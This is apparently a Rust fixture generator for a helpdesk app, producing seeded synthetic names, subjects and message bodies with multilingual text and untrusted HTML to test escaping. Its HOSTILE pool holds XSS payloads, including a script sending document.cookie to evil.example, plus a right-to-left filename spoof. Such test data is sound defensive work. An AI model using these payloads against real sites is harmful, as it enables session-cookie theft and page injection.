//! Text pools of the generated account: names, subjects and bodies, with accents, CJK,
//! emoji, right-to-left scripts and untrusted HTML, as real inboxes have.

use rand::seq::IndexedRandom;
use rand::{RngExt, SeedableRng};
use rand_chacha::ChaCha8Rng;


pub const FIRST_NAMES: &[&str] = &[
    "Alice",
    "Bob",
    "Chloé",
    "Dmitri",
    "Émile",
    "Fatima",
    "Günther",
    "Hana",
    "Ivan",
    "José",
    "Kenji",
    "Léa",
    "Mohammed",
    "Nadia",
    "Oliver",
    "Priya",
    "Quentin",
    "Rosa",
    "Søren",
    "Tomás",
    "Uma",
    "Valentina",
    "Wei",
    "Xavier",
    "Yuki",
    "Zoë",
    "Ana",
    "Björn",
    "Camille",
    "Darius",
    "Elif",
    "Farah",
    "Grace",
    "Hugo",
    "Ingrid",
    "Jamal",
    "Katarzyna",
    "Liam",
    "Mei",
    "Noor",
    "陈",
    "さくら",
    "محمد",
    "Ólafur",
    "Paweł",
    "Renée",
    "Siobhán",
    "Thảo",
    "Ünal",
    "Zeynep",
];

pub const LAST_NAMES: &[&str] = &[
    "Smith",
    "García",
    "Müller",
    "Nguyễn",
    "O'Brien",
    "Kowalski",
    "Rossi",
    "Dubois",
    "Yamamoto",
    "Kim",
    "Johansson",
    "Ivanova",
    "Fernández",
    "Østergaard",
    "Silva",
    "Novák",
    "Papadopoulos",
    "Haddad",
    "Cohen",
    "Singh",
    "Brown",
    "Martin",
    "Lefèvre",
    "Schröder",
    "Walker",
    "Tanaka",
    "李",
    "王",
    "佐藤",
    "العلي",
    "Ben-David",
    "van der Berg",
    "D'Angelo",
    "Łukasiewicz",
];

pub const COMPANIES: &[&str] = &[
    "Acme Corp",
    "Globex",
    "Initech",
    "Umbrella GmbH",
    "Société Générale de Test",
    "株式会社テスト",
    "Stark Industries",
    "Wayne Enterprises",
    "Hooli",
    "Pied Piper",
    "Vandelay Industries",
    "Ørsted & Søn",
    "شركة المثال",
    "Tyrell <Corp>",
    "Cyberdyne Systems",
];

pub const JOB_TITLES: &[&str] = &[
    "CTO",
    "Office Manager",
    "Head of Support",
    "Développeuse",
    "Accountant",
    "Founder",
    "Product Manager",
    "エンジニア",
    "Operations Lead",
    "Student",
];

pub const CITIES: &[(&str, Option<&str>, &str)] = &[
    ("Boston", Some("MA"), "US"),
    ("Portland", Some("OR"), "US"),
    ("Toronto", Some("ON"), "CA"),
    ("München", None, "DE"),
    ("Paris", None, "FR"),
    ("São Paulo", Some("SP"), "BR"),
    ("東京", None, "JP"),
    ("Tel Aviv", None, "IL"),
    ("Reykjavík", None, "IS"),
    ("Sydney", Some("NSW"), "AU"),
];

pub const TIMEZONES: &[&str] = &[
    "America/New_York",
    "America/Los_Angeles",
    "Europe/London",
    "Europe/Paris",
    "Europe/Berlin",
    "Asia/Tokyo",
    "Australia/Sydney",
    "America/Sao_Paulo",
    "Asia/Kolkata",
    "UTC",
];

pub const SUBJECTS: &[&str] = &[
    "Can't log in to my account",
    "Refund request for order #{n}",
    "Question about pricing",
    "Invoice {n} looks wrong",
    "Feature request: dark mode",
    "Réclamation : facture n°{n}",
    "注文について質問があります",
    "🚀 Launch day issue",
    "مشكلة في الدفع",
    "Bug report: export fails with \"quotes\" & ampersands",
    "<script>alert('xss')</script> urgent help",
    "Password reset not arriving",
    "Upgrade to the Plus plan?",
    "Shipping delay – where is my package?",
    "API returns 500 on /orders",
    "Zugangsdaten vergessen",
    "Unclosed <b>bold subject",
    "Cancel my subscription 😢",
    "Integration with Slack",
    "Hello 👋",
    "Datenschutz-Anfrage (DSGVO)",
    "Proposta comercial",
    "Ошибка при оплате",
    "",
];

const CUSTOMER_LINES: &[&str] = &[
    "I tried three times and it still fails.",
    "Could you please look into this as soon as possible?",
    "J'ai un problème avec ma commande, merci de m'aider.",
    "ご対応よろしくお願いいたします。",
    "This is the second time this happens 😤",
    "مرحبا، أحتاج إلى مساعدة بخصوص حسابي.",
    "Here is the error: <code>TypeError: undefined is not a function</code>",
    "Thanks in advance!",
    "Screenshot attached.",
    "Ich warte seit drei Tagen auf eine Antwort.",
    "Is there a discount for non-profits? 🙏",
    "My order number is 123-456-789.",
];

const AGENT_LINES: &[&str] = &[
    "Thanks for reaching out!",
    "I've refunded the charge; it should appear within 5–7 business days.",
    "Could you send us a screenshot of the error?",
    "Merci pour votre patience.",
    "I've escalated this to our engineering team.",
    "Here's a link to the guide: <a href=\"https://docs.example.com/guide?x=1&y=2\">guide</a>",
    "ありがとうございます。",
    "Let me know if there's anything else I can help with 🙂",
    "Your account has been unlocked.",
];

const NOTE_LINES: &[&str] = &[
    "Customer is on the legacy plan, check billing history.",
    "@team can someone from billing take a look?",
    "Possible duplicate of an earlier ticket.",
    "VIP — handle with care ⭐",
    "Internal: reproduced on staging.",
];

const HOSTILE: &[&str] = &[
    "<script>document.location='https://evil.example/?c='+document.cookie</script>",
    "<img src=x onerror=alert(1)>",
    "<div><p>unclosed paragraph <b>and bold",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "]]> --> <!-- comment",
    "\u{202E}txt.exe",
    "Zalgo: Z̷̢a̸l̵g̶o̴",
];

pub const TAG_NAMES: &[&str] = &[
    "billing",
    "bug",
    "feature-request",
    "vip",
    "refund",
    "urgent",
    "onboarding",
    "ünïcode",
    "日本語",
    "🔥hot",
    "api",
    "integration",
    "churn-risk",
    "feedback",
    "shipping",
];

pub const COLORS: &[&str] = &[
    "#E52F28", "#FF9000", "#F7C21C", "#6CB92D", "#1F8FE5", "#8560DF", "#AF2B5B", "#9DA6B3",
];

pub const WORKFLOW_NAMES: &[&str] = &[
    "Auto-tag VIP customers",
    "Close stale pending",
    "Route billing to Billing team",
    "Escalate angry customers 😡",
    "Spam filter",
    "Weekend auto-reply",
    "Assign chats round-robin",
    "Flag <unknown> senders",
];

pub const FIELD_LABELS: &[&str] = &[
    "Bug",
    "Question",
    "Feature request",
    "Billing",
    "Other 🤷",
    "Réclamation",
];

/// Picks one element (pools are never empty).
pub fn pick<'a, T>(rng: &mut ChaCha8Rng, pool: &'a [T]) -> &'a T {
    pool.choose(rng).expect("non-empty pool")
}

/// Picks one string of a pool of static strings.
pub fn pick_str(rng: &mut ChaCha8Rng, pool: &[&'static str]) -> &'static str {
    pool.choose(rng).copied().expect("non-empty pool")
}

/// An ASCII-ish local part for an email address, from a name.
pub fn email_local(first: &str, last: &str) -> String {
    let mut s = String::new();
    for c in first.chars().chain(['.']).chain(last.chars()) {
        let c = fold_ascii(c);
        if c.is_ascii_alphanumeric() || c == '.' {
            s.push(c.to_ascii_lowercase());
        }
    }
    let s = s.trim_matches('.').to_string();
    if s.is_empty() { "user".to_string() } else { s }
}

fn fold_ascii(c: char) -> char {
    match c {
        'á' | 'à' | 'â' | 'ä' | 'ã' => 'a',
        'é' | 'è' | 'ê' | 'ë' => 'e',
        'í' | 'ì' | 'î' | 'ï' => 'i',
        'ó' | 'ò' | 'ô' | 'ö' | 'ø' | 'õ' => 'o',
        'ú' | 'ù' | 'û' | 'ü' => 'u',
        'ç' => 'c',
        'ñ' => 'n',
        'ł' => 'l',
        'ß' => 's',
        'Ø' | 'Ó' | 'Ö' => 'o',
        'É' => 'e',
        'Ł' => 'l',
        'Ü' => 'u',
        other => other,
    }
}

pub fn slug(s: &str) -> String {
    let mut out = String::new();
    for c in s.chars() {
        let c = fold_ascii(c);
        if c.is_ascii_alphanumeric() {
            out.push(c.to_ascii_lowercase());
        } else if !out.ends_with('-') {
            out.push('-');
        }
    }
    let out = out.trim_matches('-').to_string();
    if out.is_empty() { "x".to_string() } else { out }
}

pub fn subject(rng: &mut ChaCha8Rng) -> String {
    let s = pick(rng, SUBJECTS);
    s.replace("{n}", &rng.random_range(1000..99999).to_string())
}

/// A short free text (comments, backgrounds).
pub fn comment(rng: &mut ChaCha8Rng) -> String {
    let pool: &[&str] = &[
        "Super helpful, thanks!",
        "Très rapide 👍",
        "Took too long.",
        "<b>Great</b> service",
        "素晴らしい対応でした",
        "شكرا جزيلا",
        "Meh.",
        "Solved in minutes 🎉",
    ];
    pick(rng, pool).to_string()
}

/// Whose words a body is made of.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Voice {
    Customer,
    Agent,
    Note,
}

/// How a thread's body is written (each thread type has its own).
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct BodyStyle {
    pub voice: Voice,
    /// One line, no markup (chats).
    pub chat: bool,
    pub greeting: bool,
    pub signature: bool,
    /// Now and then a line meant to break a page that shows it unescaped.
    pub may_be_hostile: bool,
}

/// The body of a generated thread: a pure function of the account seed and the thread id,
/// so that half a million bodies need not be kept in memory.
pub fn generated_body(seed: u64, thread_id: i64, style: BodyStyle) -> String {
    let mut rng =
        ChaCha8Rng::seed_from_u64(seed ^ (thread_id as u64).wrapping_mul(0x9E37_79B9_7F4A_7C15));
    let lines = match style.voice {
        Voice::Note => NOTE_LINES,
        Voice::Agent => AGENT_LINES,
        Voice::Customer => CUSTOMER_LINES,
    };
    let n = rng.random_range(1..=3);
    let mut body = String::new();
    if style.chat {
        body.push_str(pick_str(&mut rng, lines));
        if rng.random_bool(0.1) {
            body.push(' ');
            body.push_str(pick_str(&mut rng, HOSTILE));
        }
        return body;
    }
    if style.greeting {
        body.push_str("<p>Hi there,</p>");
    }
    for _ in 0..n {
        body.push_str("<p>");
        body.push_str(pick_str(&mut rng, lines));
        body.push_str("</p>");
    }
    if style.may_be_hostile && rng.random_bool(0.12) {
        body.push_str(pick_str(&mut rng, HOSTILE));
    }
    if style.signature {
        body.push_str("<p>Best,<br>The Support Team</p>");
    }
    body
}

/// The `preview` of a body: markup removed, whitespace collapsed, at most 100 characters.
pub fn preview_of(html: &str) -> String {
    let mut out = String::new();
    let mut in_tag = false;
    let mut last_space = true;
    for c in html.chars() {
        match c {
            '<' => in_tag = true,
            '>' if in_tag => {
                in_tag = false;
                if !last_space {
                    out.push(' ');
                    last_space = true;
                }
            }
            _ if in_tag => {}
            c if c.is_whitespace() => {
                if !last_space {
                    out.push(' ');
                    last_space = true;
                }
            }
            c => {
                out.push(c);
                last_space = false;
            }
        }
    }
    out.trim().chars().take(100).collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn bodies_are_deterministic_and_varied() {
        let customer = BodyStyle { voice: Voice::Customer, chat: false, greeting: false, signature: false, may_be_hostile: true };
        let a = generated_body(7, 123, customer);
        assert_eq!(a, generated_body(7, 123, customer));
        let distinct: std::collections::HashSet<String> = (0..50)
            .map(|i| generated_body(7, i, customer))
            .collect();
        assert!(distinct.len() > 10);
    }

    #[test]
    fn preview_strips_markup() {
        assert_eq!(preview_of("<p>Hi <b>there</b></p><p>x</p>"), "Hi there x");
        assert_eq!(preview_of(&"a".repeat(300)).chars().count(), 100);
    }

    #[test]
    fn slugs_and_emails_are_ascii() {
        assert_eq!(
            slug("Escalate angry customers 😡"),
            "escalate-angry-customers"
        );
        assert_eq!(email_local("Zoë", "Østergaard"), "zoe.ostergaard");
        assert_eq!(email_local("陈", "李"), "user");
    }
}
